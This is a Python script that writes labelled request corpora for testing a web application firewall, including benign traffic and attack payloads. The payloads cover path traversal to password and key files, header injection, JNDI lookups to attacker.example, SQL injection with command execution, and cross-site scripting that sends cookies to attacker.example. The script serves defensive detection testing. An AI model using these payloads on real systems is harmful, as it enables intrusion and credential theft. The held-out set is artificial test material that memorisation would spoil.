#!/usr/bin/env python3
"""Writes benign.tsv, attacks.tsv and holdout.tsv for WafCorpusTest. Our own corpus: realistic API and
browser traffic, and attack payloads of each family, written for this project (not copied from
any list). Deterministic: run it again and the files come out the same.

Format, one request per line, tab-separated, with \\t \\n \\r \\\\ escaped in each field:
  label  METHOD  target  headers (Name: value, joined by \\n)  body
label is "benign" or the attack's family.
"""
import random
import urllib.parse as up
import base64, json, re

rnd = random.Random(13)

def esc(s):
    return s.replace("\\", "\\\\").replace("\t", "\\t").replace("\n", "\\n").replace("\r", "\\r")

def line(label, method, target, headers, body=""):
    hs = "\n".join(f"{k}: {v}" for k, v in headers)
    return "\t".join(esc(x) for x in (label, method, target, hs, body))

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
SAFARI = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1"
CLIENTS = [CHROME, FIREFOX, SAFARI, "curl/8.5.0", "okhttp/4.12.0", "python-requests/2.32.3", "Go-http-client/2.0",
           "PostmanRuntime/7.42.0", "axios/1.7.7", "Dart/3.5 (dart:io)", "Apache-HttpClient/5.3 (Java/17.0.12)"]

def token(n=32):
    return base64.urlsafe_b64encode(bytes(rnd.getrandbits(8) for _ in range(n))).decode().rstrip("=")

def jwt():
    h = base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"JWT","kid":"k1"}').decode().rstrip("=")
    p = base64.urlsafe_b64encode(json.dumps({"sub": f"user-{rnd.randint(1,9999)}", "iat": 1764500000,
        "exp": 1764600000, "scope": "read write", "aud": "orders-api"}).encode()).decode().rstrip("=")
    return f"{h}.{p}.{token(64)}"

def browser_headers(referer=None, cookie=True):
    hs = [("User-Agent", rnd.choice([CHROME, FIREFOX, SAFARI])),
          ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
          ("Accept-Language", rnd.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.8", "ga-IE,en-IE;q=0.7"])),
          ("Accept-Encoding", "gzip, deflate, br, zstd")]
    if referer:
        hs.append(("Referer", referer))
    if cookie:
        hs.append(("Cookie", f"_ga=GA1.2.{rnd.randint(10**8,10**9)}.{rnd.randint(10**9,2*10**9)}; "
                             f"session={token(24)}; csrftoken={token(16)}; theme=dark; lang=en-US"))
    return hs

def api_headers(ctype=None):
    hs = [("User-Agent", rnd.choice(CLIENTS)), ("Accept", "application/json"),
          ("Authorization", "Bearer " + jwt())]
    if rnd.random() < 0.3:
        hs.append(("X-Api-Key", token(24)))
    if rnd.random() < 0.3:
        hs.append(("X-Correlation-Id", f"{rnd.getrandbits(64):016x}"))
    if ctype:
        hs.append(("Content-Type", ctype))
    return hs

SEARCHES = ["O'Brien", "o'reilly media books", "Rock 'n' roll hall of fame", "don't stop believing lyrics",
    "C# vs Java performance", "what is 1+1", "how to select from a dropdown in selenium", "union station chicago",
    "select committee report 2024", "drop table lamp", "1=1 meaning", "javascript: the good parts",
    "<3 emoji meaning", "5 > 3 and 2 < 4", "AT&T customer service", "Q&A sessions", "100% cotton t-shirt",
    "50% off shoes", "St. Mary's hospital", "D'Angelo Russell stats", "l'Oréal paris", "café near me",
    "München hauptbahnhof", "東京 ラーメン", "what's the weather", "\"exact phrase\" search", "price < 100",
    "ben & jerry's", "the 'and' operator in python", "how to insert a table in word",
    "delete from cart not working", "update my address", "script for a wedding speech", "alert on stock price",
    "order by date", "group by in pandas", "or-tools solver", "sleep apnea symptoms", "benchmark gpu 2024",
    "where is waldo", "having fun synonyms", "null pointer exception java", "git rebase vs merge",
    "docker compose env file", "best ../ practices for relative paths", "how to use ${HOME} in bash",
    "kotlin ${name} string template", "regex [a-z]+ tutorial", "python f-string {x!r}", "mysql vs postgres",
    "java.lang.NullPointerException", "1/2 cup to grams", "-- em dash usage", "#hashtag ideas", "email@example.com",
    "+49 30 1234567", "iPhone 16 Pro Max 256GB", "size 42 EU to US", "\"O'Neil\" AND \"Smith\"", "it's 5 o'clock somewhere",
    "Who's afraid of Virginia Woolf?", "Guns N' Roses", "rock & roll", "tom & jerry", "x = y + z", "a == b in javascript",
    "onload event javascript", "document object model tutorial", "window.location example", "confirm dialog css",
    "eval python", "prompt engineering guide", "how to write <div> tags", "html <br> vs <br/>", "cat /etc/hosts meaning",
    "what is /proc", "..\\windows path", "semicolon; usage", "it costs $5", "#1 hit 1985", "1' is a prime?", "don't",
    "isn't it ironic", "Ireland's Call", "children's books", "women's shoes", "men's jackets", "Macy's", "Kohl's"]

def benign():
    out = []
    # search queries from browsers and the API
    for q in SEARCHES:
        out.append(line("benign", "GET", "/search?" + up.urlencode({"q": q, "page": rnd.randint(1, 5)}),
                        browser_headers("https://shop.example.com/")))
        out.append(line("benign", "GET", "/api/v2/search?" + up.urlencode({"query": q, "limit": 20, "sort": "-relevance"}),
                        api_headers()))
    # REST reads
    for i in range(60):
        uid = rnd.randint(1, 10**6)
        path = rnd.choice([f"/api/v1/users/{uid}", f"/api/v1/users/{uid}/orders", f"/api/v1/orders/{token(9)}",
                           f"/api/v1/products/sku-{rnd.randint(1000,9999)}", f"/v2/accounts/{uid}/invoices/2024-11",
                           f"/api/v1/teams/{uid}/members", f"/graphql", f"/healthz", f"/api/v1/files/report-{uid}.pdf"])
        qs = rnd.choice(["", "?page=2&per_page=50", "?status=shipped&sort=-created_at", "?fields=id,name,email",
                         "?since=2024-11-01T00:00:00Z&until=2024-11-30T23:59:59Z", "?include=author,comments",
                         "?filter[status]=active&filter[role]=admin", "?ids=1,2,3,4", "?q=name:smith",
                         "?cursor=" + token(18), "?expand=items.product", "?lang=fr-CA&currency=EUR"])
        out.append(line("benign", "GET", path + qs, api_headers()))
    # browser page loads and assets
    for i in range(50):
        path = rnd.choice(["/", "/index.html", "/products/shoes/running", "/blog/2024/11/kotlin-coroutines",
                           f"/static/js/app.{token(6)}.js", f"/static/css/main.{token(6)}.css", "/images/logo@2x.png",
                           "/favicon.ico", "/robots.txt", "/sitemap.xml", "/.well-known/security.txt",
                           "/fonts/inter-var.woff2", "/docs/getting-started", "/account/settings", "/cart",
                           "/checkout/payment", "/en-gb/help/returns", "/u/o'brien", "/tags/c%23", "/wiki/Caf%C3%A9"])
        qs = rnd.choice(["", "", "?utm_source=newsletter&utm_medium=email&utm_campaign=black-friday",
                         "?ref=" + up.quote("https://news.example.org/article?id=42", safe=""), "?v=3",
                         "?redirect=" + up.quote("/account/orders?page=2", safe=""),
                         "?next=" + up.quote("https://app.example.com/callback?state=" + token(8), safe=""),
                         "?gclid=" + token(30), "?fbclid=" + token(40)])
        out.append(line("benign", "GET", path + qs, browser_headers(rnd.choice([None, "https://www.google.com/",
                        "https://shop.example.com/products?category=shoes&size=42"]))))
    # OAuth and links with URLs in parameters
    for i in range(20):
        params = {"response_type": "code", "client_id": token(12), "scope": "openid profile email",
                  "redirect_uri": "https://app.example.com/oauth/callback", "state": token(16),
                  "code_challenge": token(32), "code_challenge_method": "S256"}
        out.append(line("benign", "GET", "/oauth/authorize?" + up.urlencode(params), browser_headers()))
    # JSON bodies
    names = ["Siobhán O'Brien", "D'Angelo Smith", "Renée Zellweger", "José Álvarez", "Zoë Kravitz", "李小龙",
             "Jean-Luc Picard", "Mary-Kate O'Neil", "Ngũgĩ wa Thiong'o", "Anne \"Annie\" Hall"]
    streets = ["12 St. Mary's Road", "1600 Pennsylvania Ave NW", "221B Baker Street", "Rue de l'Église 5",
               "Apt #4, 55 O'Connell St.", "Hauptstraße 1/2"]
    comments = [
        "Great product! Would buy again :)",
        "Doesn't fit — I'm a size 42 & it runs small. Returned it.",
        "## Install\n\n```bash\nnpm install --save left-pad\n```\n\nThen see [the docs](https://example.com/docs?page=install#usage).",
        "Use `SELECT` carefully; I once ran an update without a where clause...",
        "Step 1: open the lid. Step 2: press 'start'. Step 3: wait 5-10 minutes.",
        "I <3 this! 10/10 would recommend to anyone who's into hiking.",
        "See [the guide](../guide/intro.md) and [the API](../api/index.md).",
        "Quote from the manual: \"Never mix bleach & ammonia\". Good advice.",
        "Our team's Q3 goals:\n- ship v2\n- cut p99 by 20%\n- hire 2 engineers",
        "Meeting notes 2024-11-28\r\nAttendees: Ana, Bo, Cy\r\nNext: review the union contract draft",
        "price: $19.99 (was $29.99) - that's 33% off!",
        "In Kotlin you write \"Hello, ${name}!\" and in JS `Hello, ${name}!`.",
        "Java: `if (a == b && c != d) { return; }`",
        "Python: `print(f\"{x!r}\")` and `os.path.join(base, '..', 'data')`",
        "My email is first.last+shop@example.co.uk, call me at +1 (555) 010-9999.",
        "Recipe: 1/2 cup sugar, 2 eggs, a pinch of salt; bake 25' at 180°C.",
        "Emoji test 🎉🔥👍 and some Ελληνικά and русский текст.",
        "The select committee met on Tuesday and reported that the union would vote on Friday.",
        "Is it 'its' or 'it's'? Grammar police, help!",
        "Check out https://example.com/a/b?c=d&e=f#frag for details.",
        "Don't forget: <b>bold</b> and <i>italic</i> are fine in comments.",
        "Windows path example: C:\\Users\\me\\Documents\\report.docx",
        "Shell: `ls -la ~/projects && cd ~/projects/app`",
        "The rate was 3.5% or 4% depending on the term.",
        "Order #1234 or #1235, whichever ships first.",
    ]
    for i in range(90):
        kind = i % 6
        if kind == 0:
            body = {"name": rnd.choice(names), "email": f"user{i}@example.com", "address": {"street": rnd.choice(streets),
                    "city": rnd.choice(["Dublin", "Zürich", "São Paulo", "New York", "Kraków"]), "zip": f"{rnd.randint(10000,99999)}"},
                    "marketingOptIn": rnd.random() < 0.5, "tags": ["vip", "beta"]}
            path, method = "/api/v1/users", "POST"
        elif kind == 1:
            body = {"productId": f"sku-{rnd.randint(1000,9999)}", "rating": rnd.randint(1, 5), "title": rnd.choice(["Love it", "Meh", "Not what I expected", "5 stars!"]),
                    "comment": rnd.choice(comments)}
            path, method = f"/api/v1/products/sku-{rnd.randint(1000,9999)}/reviews", "POST"
        elif kind == 2:
            body = {"items": [{"sku": f"sku-{rnd.randint(1000,9999)}", "qty": rnd.randint(1, 4), "price": round(rnd.random() * 100, 2)}
                              for _ in range(rnd.randint(1, 4))], "coupon": rnd.choice(["BLACKFRIDAY", "", "WELCOME10"]),
                    "note": rnd.choice(["Leave at the door", "Ring twice, it's the blue house", "Call +44 20 7946 0000 on arrival", ""]),
                    "paymentToken": token(32)}
            path, method = "/api/v1/orders", "POST"
        elif kind == 3:
            body = {"title": rnd.choice(["Release notes v2.3", "How we cut p99 latency", "Why we don't use ORMs", "Q&A: union membership"]),
                    "markdown": "\n\n".join(rnd.sample(comments, 3)), "draft": True,
                    "slug": "release-notes-v2-3", "coverImage": "https://cdn.example.com/img/" + token(8) + ".jpg"}
            path, method = "/api/v1/posts/" + str(rnd.randint(1, 999)), rnd.choice(["PUT", "PATCH"])
        elif kind == 4:
            body = {"query": "query GetUser($id: ID!) { user(id: $id) { id name orders(first: 10) { edges { node { id total } } } } }",
                    "variables": {"id": str(rnd.randint(1, 10**6))}, "operationName": "GetUser"}
            path, method = "/graphql", "POST"
        else:
            body = {"event": rnd.choice(["page_view", "add_to_cart", "purchase"]), "url": "https://shop.example.com/products/shoes?size=42&color=navy",
                    "referrer": "https://www.google.com/search?q=running+shoes", "ts": 1764512345678 + i,
                    "userAgent": rnd.choice([CHROME, FIREFOX, SAFARI]), "screen": {"w": 1920, "h": 1080}}
            path, method = "/collect", "POST"
        out.append(line("benign", method, path, api_headers("application/json"), json.dumps(body, ensure_ascii=rnd.random() < 0.5)))
    # form posts
    for i in range(40):
        kind = i % 4
        if kind == 0:
            form = {"username": rnd.choice(["obrien", "d.angelo", "user@example.com"]), "password": rnd.choice(["P@ss'w0rd!", "correct horse battery staple", "hunter2", "Tr0ub4dor&3", "\"quoted\"pass"]),
                    "remember": "on", "csrf": token(16)}
            path = "/login"
        elif kind == 1:
            form = {"name": rnd.choice(names), "email": "me@example.org", "subject": rnd.choice(["Order question", "Returns & refunds", "It's broken"]),
                    "message": rnd.choice(comments) + "\r\n\r\nThanks,\r\n" + rnd.choice(names)}
            path = "/contact"
        elif kind == 2:
            form = {"grant_type": "authorization_code", "code": token(24), "redirect_uri": "https://app.example.com/oauth/callback",
                    "client_id": token(12), "code_verifier": token(40)}
            path = "/oauth/token"
        else:
            form = {"q": rnd.choice(SEARCHES), "category": rnd.choice(["books", "music", "all"]), "min_price": "10", "max_price": "100"}
            path = "/search"
        out.append(line("benign", "POST", path, browser_headers() + [("Content-Type", "application/x-www-form-urlencoded")], up.urlencode(form)))
    # other methods and odd but fine requests
    for m, p in [("DELETE", "/api/v1/sessions/current"), ("OPTIONS", "/api/v1/orders"), ("HEAD", "/static/app.js"),
                 ("PUT", "/api/v1/users/42/avatar"), ("PATCH", "/api/v1/users/42"), ("DELETE", "/api/v1/cart/items/sku-1234")]:
        out.append(line("benign", m, p, api_headers()))
    return out

TRAVERSAL = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../../../../etc/shadow",
             "....//....//....//etc/passwd", "../../../boot.ini", "/var/www/../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
             "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
             "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
             "%uff0e%uff0e/%uff0e%uff0e/windows/win.ini", "..%255c..%255c..%255cwindows%255cwin.ini",
             "/proc/self/environ", "../../../../proc/self/cmdline", "file:///etc/passwd", "..;/..;/..;/WEB-INF/web.xml",
             "../../../../../../../../home/user/.ssh/id_rsa", "C:\\windows\\system32\\drivers\\etc\\hosts",
             "../../../../../.bash_history"]
TRAVERSAL_PATHS = ["/static/%252e%252e/%252e%252e/etc/passwd", "/download/..%252f..%252f..%252fetc%252fpasswd",
                   "/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/.git/config", "/.env", "/app/.git/HEAD",
                   "/.aws/credentials", "/.htpasswd", "/api/..;/admin", "/images/%252e%252e%255c%252e%252e%255cwindows%255cwin.ini",
                   "/static/..%c0%af..%c0%afetc/passwd", "/.ssh/id_rsa", "/.DS_Store", "/.svn/entries"]
NUL_CONTROL = ["passwd%00.jpg", "../../etc/passwd%00", "name%00admin", "a%01b", "%0d%0aSet-Cookie:%20admin=1",
               "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200", "%0aLocation:%20https://evil.example",
               "report.pdf%2500.php", "%1b[31mred", "%7f%7f", "value%0d%0aTransfer-Encoding: chunked"]
LOOKUPS = ["${jndi:ldap://attacker.example/a}", "${jndi:rmi://attacker.example:1099/obj}", "${jndi:dns://attacker.example}",
           "${${lower:j}ndi:ldap://attacker.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}",
           "${j${env:NOPE:-n}di:ldap://attacker.example/a}", "${${upper:j}${upper:n}${lower:d}i:ldap://attacker.example/a}",
           "$%7Bjndi:ldap://attacker.example/a%7D", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
           "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
           "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
           "${env:AWS_SECRET_ACCESS_KEY}", "${sys:user.home}", "${java:version}",
           "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "${url:UTF-8:http://attacker.example/}",
           "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
           "${jNdI:LdAp://attacker.example/a}", "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
           "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
           "${#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${k8s:k5:-ND}",
           "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}"]
SQLI = ["' OR '1'='1", "' OR 1=1--", "admin'--", "\" OR \"\"=\"", "1' ORDER BY 3--+", "1 UNION SELECT username, password FROM users",
        "' UNION ALL SELECT NULL,NULL,NULL--", "1; DROP TABLE users--", "1 AND SLEEP(5)", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
        "'; WAITFOR DELAY '0:0:5'--", "1 AND 1=1", "1' AND '1'='1", "' OR 'x'='x", "') OR ('1'='1", "1 OR 1=1",
        "1 UNION/**/SELECT 1,2,3", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "1 AND extractvalue(1,concat(0x7e,version()))",
        "' AND updatexml(1,concat(0x7e,@@version),1)--", "' OR benchmark(1000000,md5(1))#", "1' GROUP BY 1--",
        "-1' UNION SELECT 1,table_name FROM information_schema.tables--", "' or 1=1 limit 1 -- -+", "admin' #",
        "' || '1'='1", "\";select pg_sleep(5)--", "1;SELECT * FROM users", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        "1 AND (SELECT COUNT(*) FROM sysobjects)>0", "' OR username LIKE '%admin%", "1' and 'a'='a", "' OR 1 --",
        "x' AND email IS NULL; --", "1)) OR ((1=1", "'; EXEC xp_cmdshell('dir')--", "1' INTO OUTFILE '/var/www/shell.php'--",
        "' UNION SELECT LOAD_FILE('/etc/passwd')--", "1 or sleep(5)#", "\" or 1=1 --", "1' oR '1'='1", "UnIoN sElEcT 1,2",
        "1%27%20OR%20%271%27%3D%271", "1%2527%2520OR%25201%253D1--", "0x61646d696e' OR 1=1", "'||(SELECT version())||'",
        "CHAR(83,69,76,69,67,84)", "1' AND 1=CONVERT(int,@@version)--", "' HAVING 1=1--", "1 AND 'x'='x'"]
XSS = ["<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
       "<svg/onload=alert(1)>", "<body onload=alert('xss')>", "javascript:alert(1)", "java\nscript:alert(1)",
       "<iframe src=\"javascript:alert(1)\"></iframe>", "'-alert(1)-'", "\";alert(1)//", "<a href=\"#\" onclick=\"alert(1)\">x</a>",
       "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<scr<script>ipt>alert(1)</script>",
       "<ScRiPt>alert(1)</sCrIpT>", "<details open ontoggle=alert(1)>", "{{constructor.constructor('alert(1)')()}}",
       "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<object data=\"javascript:alert(1)\">",
       "<embed src=\"data:text/html,<script>alert(1)</script>\">", "<input autofocus onfocus=alert(1)>",
       "<marquee onstart=alert(1)>", "\\\"><img src=x onerror=prompt(1)>", "<svg><script>alert&#40;1&#41;</script>",
       "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "＜script＞alert(1)＜/script＞", "<div style=\"width:expression(alert(1))\">",
       "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
       "<iframe srcdoc=\"<script>alert(1)</script>\">", "<form><button formaction=javascript:alert(1)>x</button></form>",
       "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
       "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<video><source onerror=\"alert(1)\">",
       "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
       "<base href=\"javascript:alert(1)//\">", "\"><img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
       "<script src=//attacker.example/x.js></script>", "';document.location='//attacker.example/?c='+document.cookie;//",
       "<img src=x onerror=String.fromCharCode(97,108,101,114,116)(1)>", "<style>@import 'javascript:alert(1)';</style>",
       "vbscript:msgbox(1)", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"]
SCANNERS = ["sqlmap/1.8.11#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6", "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
            "w3af.org", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Fuzz Faster U Fool v2.1.0"]

def encoded(payload):
    """Already percent-encoded (the attacker's own encoding, sent as it is)."""
    return re.search(r"%(?:[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})", payload) is not None and not re.search(r"[\s\"'<>\\{}|^`]", payload)

def attacks():
    out = []
    def place(family, payload, where):
        if where == "query":
            # the payload as a browser or script would put it in a URL: encoded once (already-encoded ones as they are)
            value = payload if encoded(payload) else up.quote(payload, safe="")
            out.append(line(family, "GET", "/search?q=" + value + "&page=1", browser_headers()))
        elif where == "json":
            out.append(line(family, "POST", "/api/v1/comments", api_headers("application/json"),
                            json.dumps({"postId": 7, "author": "x", "text": up.unquote(payload) if family != "traversal" else payload})))
        elif where == "form":
            out.append(line(family, "POST", "/login", browser_headers() + [("Content-Type", "application/x-www-form-urlencoded")],
                            "username=" + (payload if encoded(payload) else up.quote(payload, safe="")) + "&password=x"))
        elif where == "cookie":
            out.append(line(family, "GET", "/account", [("User-Agent", CHROME), ("Cookie", "session=abc; pref=" + up.quote(payload, safe=""))]))
        elif where == "header":
            out.append(line(family, "GET", "/", [("User-Agent", payload), ("X-Api-Version", payload)]))
        elif where == "name":
            out.append(line(family, "GET", "/search?" + up.quote(payload, safe="") + "=1", browser_headers()))
    for p in TRAVERSAL:
        for w in ("query", "json", "form"):
            place("traversal", p, w)
    for p in TRAVERSAL_PATHS:
        out.append(line("traversal", "GET", p, browser_headers()))
    for p in NUL_CONTROL:
        for w in ("query", "form"):
            place("protocol", p, w)
    out.append(line("protocol", "TRACK", "/", [("User-Agent", CHROME)]))
    out.append(line("protocol", "DEBUG", "/default.aspx", [("User-Agent", CHROME), ("Command", "stop-debug")]))
    out.append(line("protocol", "GET", "/index.php%2500.jpg", browser_headers()))
    out.append(line("protocol", "GET", "/a%250d%250aSet-Cookie:x=1", browser_headers()))
    for p in LOOKUPS:
        for w in ("header", "query", "json"):
            place("lookup", p, w)
    out.append(line("lookup", "POST", "/", api_headers("application/x-www-form-urlencoded"),
                    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"))
    out.append(line("lookup", "GET", "/?class.classLoader.URLs%5B0%5D=0", browser_headers()))
    for p in SQLI:
        for w in ("query", "json", "form", "cookie"):
            place("sqli", p, w)
    for p in XSS:
        for w in ("query", "json", "form"):
            place("xss", p, w)
    for p in XSS[:10]:
        out.append(line("xss", "GET", "/search/" + up.quote(p, safe=""), browser_headers()))
    for ua in SCANNERS:
        out.append(line("scanner", "GET", "/", [("User-Agent", ua), ("Accept", "*/*")]))
    return out


# Written after the rules were frozen and never used to tune them: an honest look at what the
# rules miss. Different payloads, and other places (Referer, JSON keys, PUT bodies, path segments).
HOLDOUT = [
    ("traversal", "query", "....\\\\....\\\\....\\\\boot.ini"), ("traversal", "json", "/../../../../../../../../etc/issue"),
    ("traversal", "query", "%2e%2e/%2e%2e/%2e%2e/opt/app/config.yml"), ("traversal", "form", "..%u2215..%u2215..%u2215etc%u2215group"),
    ("traversal", "query", "file:///c:/windows/win.ini"), ("traversal", "json", "..//..//..//var/log/auth.log"),
    ("traversal", "query", "/static/../../../../usr/local/app/.env"), ("traversal", "form", "%25%32%65%25%32%65%25%32%66etc%25%32%66passwd"),
    ("protocol", "query", "image.png%00.php"), ("protocol", "form", "x%0d%0aX-Injected:%201"),
    ("protocol", "query", "%0d%0a%0d%0a<html>injected</html>"), ("protocol", "json", "a\u0000b"),
    ("lookup", "header", "${jndi:ldaps://198.51.100.7:636/Exploit}"), ("lookup", "header", "${${lower:${lower:jndi}}:${lower:rmi}://x/}"),
    ("lookup", "header", "${${upper::-j}${upper::-n}${upper::-d}${upper::-i}:ldap://x/a}"), ("lookup", "query", "${jndi:nis://x/a}"),
    ("lookup", "json", "${sys:java.version}"), ("lookup", "referer", "${jndi:ldap://${env:USER}.attacker.example/a}"),
    ("lookup", "json", "#{T(java.lang.Runtime).getRuntime().exec('id')}"), ("lookup", "query", "${::-$}{jndi:ldap://x}"),
    ("sqli", "query", "1' AND 1=(SELECT COUNT(*) FROM tabname); --"), ("sqli", "json", "' OR EXISTS(SELECT * FROM users WHERE username='admin')--"),
    ("sqli", "form", "admin') OR ('a'='a"), ("sqli", "query", "10 AND IF(1=1,SLEEP(3),0)"),
    ("sqli", "cookie", "1' UNION SELECT @@version,NULL#"), ("sqli", "query", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("sqli", "json", "x'; DELETE FROM orders WHERE '1'='1"), ("sqli", "query", "(SELECT 2 FROM DUAL WHERE 1=1)"),
    ("sqli", "form", "' AND 1=CAST((SELECT current_user) AS int)--"), ("sqli", "query", "1 AND (SELECT SUBSTR(banner,1,1) FROM v$version)='O'"),
    ("sqli", "json", "1 OR 2>1"), ("sqli", "query", "name' GROUP BY columnnames having 1=1 --"),
    ("xss", "query", "<img/src/onerror=alert(1)>"), ("xss", "json", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>"),
    ("xss", "form", "\"><iframe/onload=alert(1)>"), ("xss", "query", "<dETAILS%0aopen%0aonToGgle%0a=%0aa=prompt,a()%0a>"),
    ("xss", "referer", "https://example.com/\"><script>alert(1)</script>"), ("xss", "json", "<body/onpageshow=alert(1)>"),
    ("xss", "query", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//"), ("xss", "form", "<x onclick=alert(1)>click"),
    ("xss", "query", "<a href=\"&#106;avascript:alert(1)\">x</a>"), ("xss", "json", "</textarea><script>fetch('//x/'+document.cookie)</script>"),
    ("xss", "query", "<object type=\"text/x-scriptlet\" data=\"//x/a\"></object>"), ("xss", "json", "<isindex type=image src=1 onerror=alert(1)>"),
]

def holdout():
    out = []
    for family, where, payload in HOLDOUT:
        if where == "referer":
            out.append(line(family, "GET", "/", [("User-Agent", CHROME), ("Referer", payload)]))
        elif where == "header":
            out.append(line(family, "GET", "/", [("User-Agent", payload)]))
        elif where == "query":
            value = payload if encoded(payload) else up.quote(payload, safe="")
            out.append(line(family, "GET", "/items?id=" + value, browser_headers()))
        elif where == "json":
            out.append(line(family, "PUT", "/api/v1/profile", api_headers("application/json"), json.dumps({"bio": payload})))
        elif where == "form":
            out.append(line(family, "POST", "/signup", browser_headers() + [("Content-Type", "application/x-www-form-urlencoded")],
                            "email=a%40b.c&name=" + (payload if encoded(payload) else up.quote(payload, safe=""))))
        elif where == "cookie":
            out.append(line(family, "GET", "/", [("User-Agent", CHROME), ("Cookie", "id=" + up.quote(payload, safe=""))]))
    return out

if __name__ == "__main__":
    b = benign()
    a = attacks()
    open("benign.tsv", "w").write("\n".join(b) + "\n")
    open("attacks.tsv", "w").write("\n".join(a) + "\n")
    h = holdout()
    open("holdout.tsv", "w").write("\n".join(h) + "\n")
    print(len(b), "benign,", len(a), "attacks,", len(h), "held out")
